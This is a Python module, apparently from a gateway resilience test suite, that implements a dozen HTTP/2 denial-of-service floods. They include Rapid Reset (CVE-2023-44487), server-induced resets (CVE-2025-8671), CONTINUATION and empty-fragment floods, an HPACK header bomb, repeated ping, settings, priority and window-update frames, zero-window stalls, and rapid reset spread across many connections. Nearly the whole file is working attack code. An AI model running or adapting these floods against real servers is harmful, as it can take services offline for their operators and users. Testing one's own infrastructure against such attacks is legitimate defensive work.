"""Attackers over HTTP/2: connections that begin correctly and then send one kind of frame without end (RFC 9113 §10.5)."""

import contextlib
import socket
from collections.abc import Callable, Iterator
from threading import Event

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from floods.attacks import CONNECTIONS, Attack, Target, connect, going_on, send

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Streams of one connection before the next is opened.
STREAMS = 2_000
# Frames in one write.
TOGETHER = 50


def block(target: Target, path: str = "/page", *more: tuple[str, str]) -> bytes:
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", path), *more]
    return hpack.Encoder().encode(fields)


def headers(stream: int, fields: bytes, *flags: str) -> bytes:
    return HeadersFrame(stream, fields, flags=list(flags)).serialize()


def flood(frames: Callable[[Target], Iterator[bytes]]) -> Attack:
    """Connections one after the other, each with these frames until they end or the gateway closes."""
    def attack(port: int, target: Target, stop: Event) -> int:
        sent = 0
        for _ in going_on(stop):
            try:
                with connect(port) as connection:
                    connection.sendall(PREFACE + SettingsFrame(0).serialize())
                    for piece in frames(target):
                        if stop.is_set() or not send(connection, piece):
                            break
                        sent += 1
            except OSError:
                pass
        return sent
    return attack


def rapid_reset(target: Target) -> Iterator[bytes]:
    """CVE-2023-44487: streams that are opened and reset at once."""
    fields = block(target)
    for stream in range(1, STREAMS, 2):
        yield headers(stream, fields, "END_HEADERS", "END_STREAM") + RstStreamFrame(stream, error_code=8).serialize()


def made_to_reset(target: Target) -> Iterator[bytes]:
    """CVE-2025-8671: the same, by errors that make the server reset them."""
    fields = block(target)
    for stream in range(1, STREAMS, 2):
        yield headers(stream, fields, "END_HEADERS") + WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()


def continuation(target: Target) -> Iterator[bytes]:
    """A head that never ends."""
    yield headers(1, block(target))
    literal = hpack.Encoder().encode([("x-more", "y" * 1000)], huffman=False)
    for _ in range(STREAMS):
        yield ContinuationFrame(1, literal).serialize()


def empty_continuation(target: Target) -> Iterator[bytes]:
    """The same, with empty fragments."""
    yield headers(1, block(target))
    for _ in range(STREAMS):
        yield ContinuationFrame(1, b"").serialize() * TOGETHER


def many_headers(target: Target) -> Iterator[bytes]:
    """A one-byte index of a header of four thousand bytes, over and over."""
    encoder = hpack.Encoder()
    first = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", "/page"),
                            ("x-bomb", "y" * 3900)])
    yield headers(1, first, "END_HEADERS", "END_STREAM")
    bomb = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", "/page"),
                           *[("x-bomb", "y" * 3900)] * 4000])
    for stream in range(3, STREAMS, 2):
        yield headers(stream, bomb, "END_HEADERS", "END_STREAM")


def over_and_over(frame: Frame) -> Callable[[Target], Iterator[bytes]]:
    """One frame without effect."""
    def frames(_: Target) -> Iterator[bytes]:
        for _ in range(STREAMS):
            yield frame.serialize() * TOGETHER
    return frames


def empty_data(target: Target) -> Iterator[bytes]:
    """An empty body in very many frames."""
    upload = [(":method", "POST"), (":scheme", "http"), (":authority", target.host), (":path", "/public/x")]
    yield headers(1, hpack.Encoder().encode(upload), "END_HEADERS")
    for _ in range(STREAMS):
        yield DataFrame(1, b"").serialize() * TOGETHER


def no_window(port: int, target: Target, stop: Event) -> int:
    """Requests large bodies with a closed window, and waits. Not as many as it could: the upstream is not under test."""
    closed = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    fields, asked = block(target, "/public/large"), 0
    with contextlib.ExitStack() as all_:
        for count in going_on(stop):
            if count < 4:
                with contextlib.suppress(OSError):
                    connection = all_.enter_context(connect(port))
                    streams = [headers(stream, fields, "END_HEADERS", "END_STREAM") for stream in range(1, 20, 2)]
                    asked += len(streams) * send(connection, PREFACE + closed + b"".join(streams))
            else:
                stop.wait(0.2)
    return asked


def scattered_reset(port: int, target: Target, stop: Event) -> int:
    """Rapid reset over many connections, each within the allowance of one."""
    fields, sent = block(target), 0
    with contextlib.ExitStack() as all_:
        held: list[socket.socket] = []
        for count in going_on(stop):
            while len(held) < CONNECTIONS and not stop.is_set():
                try:
                    held.append(all_.enter_context(connect(port)))
                    held[-1].sendall(PREFACE + SettingsFrame(0).serialize())
                except OSError:
                    break
            first = 1 + 20 * count
            pairs = b"".join(headers(stream, fields, "END_HEADERS", "END_STREAM") +
                             RstStreamFrame(stream, error_code=8).serialize() for stream in range(first, first + 20, 2))
            held = [connection for connection in held if send(connection, pairs)]
            sent += len(held)
    return sent


ATTACKS: dict[str, Attack] = {
    "rapid reset": flood(rapid_reset),
    "scattered reset": scattered_reset,
    "made to reset": flood(made_to_reset),
    "continuation": flood(continuation),
    "empty continuation": flood(empty_continuation),
    "a header bomb": flood(many_headers),
    "pings": flood(over_and_over(PingFrame(0, b"01234567"))),
    "settings": flood(over_and_over(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 16384}))),
    "priorities": flood(over_and_over(PriorityFrame(1, depends_on=3, stream_weight=1))),
    "window updates": flood(over_and_over(WindowUpdateFrame(0, window_increment=1))),
    "empty data": flood(empty_data),
    "no window": no_window,
}
